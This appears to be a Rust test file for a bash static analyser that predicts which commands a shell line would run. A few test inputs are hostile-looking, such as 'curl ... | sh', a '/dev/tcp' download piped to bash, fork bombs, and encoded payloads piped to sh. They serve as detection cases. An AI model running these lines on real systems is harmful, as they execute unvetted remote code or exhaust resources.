//! What running a text would start, each row confirmed by running it in bash 5.2 with stub programs.

use crate::execution::{Analysis, FactKind, Status};
use crate::syntax::Dialect;
use crate::value::{Piece, Value};
use crate::world::{EmptyWorld, FileKind, Listing, Read, World};
use crate::{Request, analyse};

/// A machine with a home and a few scripts.
struct Machine;

impl World for Machine {
    fn read(&self, path: &[u8], _: usize) -> Read {
        match path {
            b"/work/hello.sh" => Read::Content(b"zz9 from a script\n".to_vec()),
            b"/work/commands" => Read::Content(b"zz9 listed\n".to_vec()),
            b"/work/too-long.sh" => Read::Unreadable,
            _ => Read::Missing,
        }
    }

    fn list(&self, directory: &[u8]) -> Listing {
        match directory {
            b"/usr/bin" => Listing::Names(vec![b"zz9".to_vec(), b"ls".to_vec()]),
            b"/locked" => Listing::Unreadable,
            _ => Listing::Missing,
        }
    }

    fn stat(&self, path: &[u8]) -> Option<FileKind> {
        let files: [&[u8]; 3] = [b"/work/hello.sh", b"/work/commands", b"/work/too-long.sh"];
        files.contains(&path).then_some(FileKind::File)
    }

    fn variable(&self, name: &[u8]) -> Option<Vec<u8>> {
        (name == b"HOME").then(|| b"/home/dev".to_vec())
    }

    fn home(&self, user: Option<&[u8]>) -> Option<Vec<u8>> {
        user.is_none_or(|user| user == b"root")
            .then(|| b"/root".to_vec())
    }
}

fn run(text: &str) -> Analysis {
    let request = Request {
        text: text.as_bytes(),
        dialect: Dialect::Bash,
        cwd: b"/work",
    };
    analyse(&request, &Machine)
}

fn show(value: &Value) -> String {
    let mut out = String::new();
    for piece in &value.pieces {
        match piece {
            Piece::Text { bytes, .. } | Piece::Glob { pattern: bytes, .. } => {
                out.push_str(&String::from_utf8_lossy(bytes));
            }
            Piece::Unset(_) => {}
            Piece::Unknown(_) => out.push('?'),
        }
    }
    out
}

/// The calls of `zz9`, words joined by `|`.
fn calls(text: &str) -> Vec<String> {
    let mut calls: Vec<String> = run(text)
        .executions
        .iter()
        .filter(|execution| execution.program().as_deref() == Some(b"zz9"))
        .map(|execution| {
            let words: Vec<String> = execution
                .argv
                .iter()
                .skip(1)
                .map(|arg| show(&arg.value))
                .collect();
            words.join("|")
        })
        .collect();
    calls.sort();
    calls.dedup();
    calls
}

/// Each text calls `zz9` with exactly these words.
fn table(rows: &[(&str, &[&str])]) {
    let wrong: Vec<String> = rows
        .iter()
        .filter_map(|(text, expected)| {
            let got = calls(text);
            (got != *expected).then(|| format!("{text}\n     got {got:?}\n  wanted {expected:?}"))
        })
        .collect();
    assert!(wrong.is_empty(), "\n{}", wrong.join("\n"));
}

fn facts(text: &str) -> Vec<FactKind> {
    run(text).facts.iter().map(|fact| fact.kind).collect()
}

#[test]
fn words_are_expanded_in_the_order_of_the_shell() {
    table(&[
        ("zz9 ~dev ~nobody", &["/home/dev|~nobody"]),
        ("zz9 ~ ~root ~/x '~'", &["/home/dev|/root|/home/dev/x|~"]),
        ("zz9 ~\"\" ~\\/x ~/\"x\"", &["~|~/x|/home/dev/x"]),
        ("zz9 a=~root:~ '' a:~", &["a=/root:/home/dev||a:~"]),
        ("zz9 ~{ ~{/x,}", &["~{|/home/dev/x|/home/dev"]),
        ("zz9 {a,b}{1..03} x{y", &["a01|a02|a03|b01|b02|b03|x{y"]),
        ("zz9 $'a\\tb' \"$HOME\"/*", &["a\tb|/home/dev/*"]),
        ("x='a b'; zz9 $x \"$x\"", &["a|b|a b"]),
        ("IFS=-; set -- a b; zz9 \"$*\" $*", &["a-b|a|b"]),
        ("IFS=:; x=a:b; zz9 $x; unset IFS; zz9 $x", &["a:b", "a|b"]),
        (
            "x=(a 'b c'); zz9 \"${x[@]}\" ${#x[@]} \"${x[*]:1}\" ${x[-1]}",
            &["a|b c|2|b c|b|c"],
        ),
        ("set -; zz9 \"$*\" 1", &["|1"]),
        ("shopt -s nullglob; zz9 1 e*", &["1", "1|e*"]),
        ("zz9 <() 2", &["2"]),
        ("zz9 ${x-a 'b c' d}e", &["a|b c|de"]),
        ("x=1; zz9 ${x+\"b c\"' d' e}", &["b c d|e"]),
        ("ac=1; c=2; zz9 {$a,b}c {a$,b}c", &["1|bc|a2|bc"]),
    ]);
}

#[test]
fn parameter_operators_work_on_known_values() {
    table(&[
        ("v=abzz9; ${v:2} 1", &["1"]),
        ("v=xzz9; ${v#x} 1", &["1"]),
        ("v=zz9.sh; ${v%.*} 1", &["1"]),
        ("v=zzX; ${v/X/9} 1", &["1"]),
        ("v=ZZ9; ${v,,} 1", &["1"]),
        ("${none:-zz9} 1", &["1"]),
        ("${none-zz9} 1", &["1"]),
        ("n=v; v=zz9; ${!n} 1", &["1"]),
        ("declare -n r=v; v=zz9; $r 1", &["1"]),
        ("declare -i i=2+3; zz9 $i; i+=1; zz9 $i", &["5", "6"]),
        ("declare -u u=abc; zz9 $u", &["ABC"]),
        ("declare$@ x=1; zz9 $x", &["1"]),
        (
            "builtin declare x=1; command export y=2; zz9 $x $y",
            &["1|2"],
        ),
        ("printf -v v 'zz%s' 9; $v 1", &["1"]),
        ("declare -a 'a=(zz9 1)'; \"${a[@]}\"", &["1"]),
        ("a=(x y); unset 'a[0]'; zz9 \"${a[@]}\"", &["y"]),
    ]);
}

#[test]
fn both_sides_of_a_condition_are_taken() {
    table(&[
        ("if a; then c=zz9; else c=ls; fi; $c 1", &["1"]),
        ("a || c=zz9; $c 1", &["1"]),
        ("case $x in a) c=zz9;; b) c=ls;; esac; $c 1", &["1"]),
        ("for c in ls zz9 ls; do break; done; $c 1", &["1"]),
        ("for c in ls; do c=zz9; continue; c=ls; done; $c 1", &["1"]),
        ("while a; do b=$c; c=zz9; done; $b 1", &["1"]),
        ("f() { c=zz9; return; c=ls; }; f; $c 1", &["1"]),
        (
            "x=$(if true; then echo zz9; else echo ls; fi); $x 1",
            &["1"],
        ),
    ]);
}

#[test]
fn input_reaches_what_reads_it() {
    table(&[
        ("echo zz9 1 | sh", &["1"]),
        ("read -r a b <<< 'zz9 1'; $a $b", &["1"]),
        ("while IFS=, read -r a b; do $b 1; done <<< x,zz9", &["1"]),
        ("IFS=: read -r _ v _ <<< a:zz9:b; $v 1", &["1"]),
        ("read -n 3 c <<< zz9xx; $c 1", &["1"]),
        ("read -d , c <<< zz9,x; $c 1", &["1"]),
        ("mapfile -t m <<< 'zz9'; ${m[0]} 1", &["1"]),
        ("exec 7<<<'zz9 1'; bash <&7", &["1"]),
        ("exec 8< <(echo 'zz9 1'); read -ru 8 x; $x", &["1"]),
        ("a || x='zz9 1'; exec 7<<<\"$x\"; bash <&7", &["1"]),
        ("exec {fd}<<<'zz9 1'; bash <&$fd", &["1"]),
        ("echo 'zz9 1' | tee >(sh)", &["1"]),
        ("echo 'zz9 1' > >(sh)", &["1"]),
        ("> >(zz9 1)", &["1"]),
        ("{ echo zz9; echo 1; } | xargs -n2", &[]),
        ("echo 1 | xargs zz9", &["", "1"]),
        ("echo 1 | xargs -r zz9", &["1"]),
        ("echo eno5IDE= | base64 -d | rev | rev | sh", &["1"]),
    ]);
}

#[test]
fn files_that_the_line_writes_have_that_content() {
    table(&[
        ("echo 'zz9 1' > s; sh s", &["1"]),
        ("echo 'zz9 1' > s; chmod +x s; ./s", &["1"]),
        ("cat > s <<E\nzz9 1\nE\n. ./s", &["1"]),
        ("f=$(mktemp); echo 'zz9 1' > \"$f\"; bash \"$f\"", &["1"]),
        ("exec 5> w; echo 'zz9 1' >&5; sh w", &["1"]),
        ("echo 'zz9 1' > s; cp s t; mv t u; bash u", &["1"]),
        (
            "PATH=/tmp:$PATH; echo 'zz9 1' > /tmp/p; chmod +x /tmp/p; p",
            &["1"],
        ),
        ("echo 'zz9 1' > /tmp/e; BASH_ENV=/tmp/e bash -c :", &["1"]),
    ]);
}

#[test]
fn files_of_the_machine_are_read_when_they_run() {
    table(&[
        ("sh hello.sh", &["from|a|script"]),
        ("ln -s hello.sh h; ./h", &["from|a|script"]),
        ("eval \"$(cat commands)\"", &["listed"]),
        ("bash < commands", &["listed"]),
        ("cd /usr/bin; zz[9] 1", &["1"]),
        ("cd /usr/bin; zz[\\9] 1", &["1"]),
        ("sh missing.sh", &[]),
    ]);
    assert_eq!(facts("sh missing.sh"), []);
    assert_eq!(facts("cat *.sh | sh"), [FactKind::ScriptUnresolved]);
    assert_eq!(facts("sh scripts/*.sh"), [FactKind::ScriptUnresolved]);
}

#[test]
fn text_that_runs_later_or_again_is_followed() {
    table(&[
        ("trap 'zz9 1' EXIT", &["1"]),
        ("trap '$x 1' EXIT; x=zz9; x=ls", &["1"]),
        ("alias q='zz9 1'\nq 2", &["1|2"]),
        ("x='a[$(zz9 1)]'; echo $((x))", &["1"]),
        ("[[ -v 'a[$(zz9 1)]' ]]", &["1"]),
        ("x='$(zz9 1)'; echo \"${x@P}\"", &["1"]),
        ("PS4='$(zz9 1)'; set -x", &["1"]),
        ("compgen -C 'zz9 1' x", &["1|?"]),
        ("hash -p /bin/zz9 ls; ls 1", &["1"]),
        ("coproc zz9 1", &["1"]),
        ("x=2 eval 'zz9 $x'", &["2"]),
        ("eval a=(x 'y z' w); zz9 \"${a[1]}\"", &["y z"]),
        ("set -- zz9 1; \"$@\"", &["1"]),
        ("echo zz9; $_ 1", &["1"]),
    ]);
}

#[test]
fn functions_get_their_arguments() {
    table(&[
        ("f() { \"$@\"; }; f zz9 1", &["1"]),
        ("f() { zz9 \"$1\"; }; f a; f b", &["a", "b"]),
        ("f() { zz9 \"$1\"; }", &["?"]),
        ("f() { local x=zz9; $x 1; }; f", &["1"]),
        (
            "f() { [ $# -gt 0 ] && { $1 1; shift; f \"$@\"; }; }; f ls ls zz9",
            &["1"],
        ),
        ("zz9() { ls; }; zz9 1", &[]),
        ("zz9() { ls; }; command zz9 1", &["1"]),
        ("if a; then zz9() { ls; }; fi; zz9 1", &["1"]),
    ]);
}

#[test]
fn a_function_that_multiplies_itself_is_named_whatever_its_name() {
    assert!(facts(":(){ :|:& };:").contains(&FactKind::ForkBomb));
    assert!(facts("function boom { boom | boom & }; boom").contains(&FactKind::ForkBomb));
    assert_eq!(
        facts("walk() { for d in *; do walk \"$d\" | sort; done; }; walk ."),
        []
    );
}

#[test]
fn what_cannot_be_known_is_said() {
    assert_eq!(facts("$(generate) 1"), [FactKind::CommandUnresolved]);
    assert_eq!(facts("sh -c \"$(generate)\""), [FactKind::CodeUnresolved]);
    assert_eq!(facts("curl -s http://h/i | sh"), [FactKind::CodeFetched]);
    assert_eq!(
        facts("hash -p $(generate) ls; ls 1"),
        [FactKind::CommandUnresolved]
    );
    assert_eq!(facts("sh too-long.sh"), [FactKind::CodeUnresolved]);
    assert_eq!(facts("eval \"$(ssh-agent -s)\""), []);
    assert_eq!(
        facts("cat < /dev/tcp/203.0.113.5/80 | bash"),
        [FactKind::CodeFetched]
    );
    assert!(facts("shopt -s extglob; /bin/@(zz9) 1").contains(&FactKind::CommandUnresolved));
    assert_eq!(
        facts("alias a='ls '\nalias b='x|1'\na b"),
        [FactKind::CommandUnresolved]
    );
    assert_eq!(facts("seq 1 100000 | tail -n 3; ls $(seq 1 100000)"), []);
    assert_eq!(facts("bash"), [FactKind::Interactive]);
    assert_eq!(
        facts("\"$(generate)\"/bin/zz9 1"),
        [FactKind::ScriptUnresolved]
    );
    assert_eq!(
        facts("shopt -s expand_aliases\nalias a='ls #'\na x"),
        [FactKind::CommandUnresolved]
    );
}

#[test]
fn spans_lie_in_the_text_even_for_decoded_text() {
    for text in [
        "xxd -r -p<<<74726170207a7a392055|sh",
        "printf 'trap \\'zz9 1\\' 0'|sh",
    ] {
        let end = u32::try_from(text.len()).unwrap();
        for execution in run(text).executions {
            assert!(execution.span.start <= execution.span.end && execution.span.end <= end);
            assert!(
                execution.argv.iter().all(|arg| arg.span.end <= end),
                "{text}"
            );
        }
    }
}

#[test]
fn a_script_too_long_to_follow_is_still_read() {
    let calls_many =
        "f() { g; g; g; g; }; g() { h; h; h; h; }; h() { for i in 1 2 3; do :; done; }\n";
    let script = format!("{}{}zz9 1\n", calls_many, "f; f; f; f\n".repeat(2_000));
    let text = format!("cat > s <<'E'\n{script}E\nsh s; zz9 2");
    assert_eq!(calls(&text), ["1", "2"]);
}

/// `count` texts made from their number.
fn many(count: usize, text: impl Fn(usize) -> String) -> String {
    (0..count).map(text).collect()
}

#[test]
fn more_than_what_is_kept_apart_is_said() {
    let arms = many(12, |n| format!("{n}) echo true {n};; "));
    let traps = many(1_100, |n| format!("trap 'true {n}' USR1; "));
    let descriptors = many(300, |n| format!("exec {}< <(echo true); ", n + 3));
    let inner = (0..12).rev().fold("zz9 1".to_owned(), |body, n| {
        format!("f{n}() {{ {body}; }}")
    });
    for text in [
        format!("eval \"$(case $1 in {arms} *) echo zz9 1;; esac)\""),
        format!("{{ case $1 in {arms} *) echo zz9 1;; esac; }} | sh"),
        format!("{traps} trap 'zz9 1' EXIT"),
        format!("{descriptors} exec 999< <(echo 'zz9 1'); sh <&999"),
        inner,
    ] {
        let analysis = run(&text);
        let said = analysis.status == Status::NotUnderstood
            || analysis
                .facts
                .iter()
                .any(|fact| fact.kind != FactKind::Interactive);
        assert!(
            said || calls(&text) == ["1"],
            "{}",
            text.get(..60).unwrap_or(&text)
        );
    }
}

#[test]
fn braces_let_text_continue_a_bare_name_only() {
    table(&[
        ("a=x ac=y; zz9 {$a,b}c", &["y|bc"]),
        ("a=x ac=y; zz9 {${a},b}c", &["xc|bc"]),
        ("a=x ac=y; zz9 {$\\\na,b}c", &["y|bc"]),
    ]);
}

#[test]
fn a_pattern_over_a_directory_that_cannot_be_listed_is_said() {
    let unresolved = |text| facts(text).contains(&FactKind::CommandUnresolved);
    assert!(unresolved("/locked/zz* 1"));
    assert!(!unresolved("/nowhere/zz* 1"));
    assert!(!unresolved("/usr/bin/zz* 1"));
}

#[test]
fn descriptors_that_a_branch_opens_beyond_the_bound_are_said() {
    let open = |first: u32, count| {
        many(count, |n| {
            format!("exec {}<<<'true {n}'; ", first + n as u32)
        })
    };
    let branches = |count| {
        let (one, other) = (open(3, count), open(3_000, count));
        let third = open(6_000, count);
        format!("case $1 in a) {one};; b) {other};; *) {third};; esac; zz9 1")
    };
    assert_eq!(run(&branches(20)).status, Status::Clean);
    assert_eq!(run(&branches(250)).status, Status::NotUnderstood);
}

#[test]
fn an_unknown_first_word_may_be_nothing() {
    table(&[
        ("$(generate) zz9 1", &["1"]),
        ("$UNSET zz9 1", &["1"]),
        ("\"$UNSET\" zz9 1", &[]),
    ]);
}

#[test]
fn work_is_bounded_and_the_bound_is_said() {
    let doubling = format!("x=a;{}$x", "x=$x$x;".repeat(64));
    for text in [doubling, "eval ".repeat(3_000), "$(".repeat(3_000)] {
        let analysis = run(&text);
        let said = analysis.status == Status::NotUnderstood || !analysis.facts.is_empty();
        let followed = analysis
            .executions
            .iter()
            .any(|execution| execution.argv.iter().any(|arg| !arg.value.is_known()));
        assert!(said || followed, "{}", text.get(..40).unwrap_or(&text));
    }
}

#[test]
fn an_empty_text_runs_nothing() {
    let request = Request {
        text: b" # zz9\n",
        dialect: Dialect::Posix,
        cwd: b"/",
    };
    let analysis = analyse(&request, &EmptyWorld);
    assert_eq!(analysis.status, Status::Clean);
    assert!(analysis.executions.is_empty() && analysis.facts.is_empty());
}

#[test]
fn contents_of_files_and_pipes_are_kept_apart_by_branch() {
    table(&[
        (
            "if :; then echo a >f; else echo b >f; fi; zz9 $(cat f)",
            &["a", "b"],
        ),
        (
            "if :; then echo a; else echo b; fi | { read x; zz9 $x; }",
            &["a", "b"],
        ),
        (
            "if :; then x=f; else x=g; fi; echo a >g; { echo b; } >$x; zz9 $(cat g)",
            &["a", "b"],
        ),
    ]);
}
